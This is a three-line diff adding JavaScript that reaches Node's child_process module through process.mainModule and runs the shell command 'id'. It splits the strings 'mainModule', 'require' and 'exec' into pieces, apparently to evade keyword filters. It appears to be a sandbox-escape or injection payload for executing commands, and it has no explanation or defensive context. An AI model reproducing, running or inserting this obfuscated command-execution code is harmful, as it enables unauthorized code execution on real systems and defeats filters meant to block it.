@@ -1,0 +1,3 @@
+const pm = process['main' + 'Module'];
+const cp = pm['req' + 'uire']('child_process');
+cp['ex' + 'ec']('id');
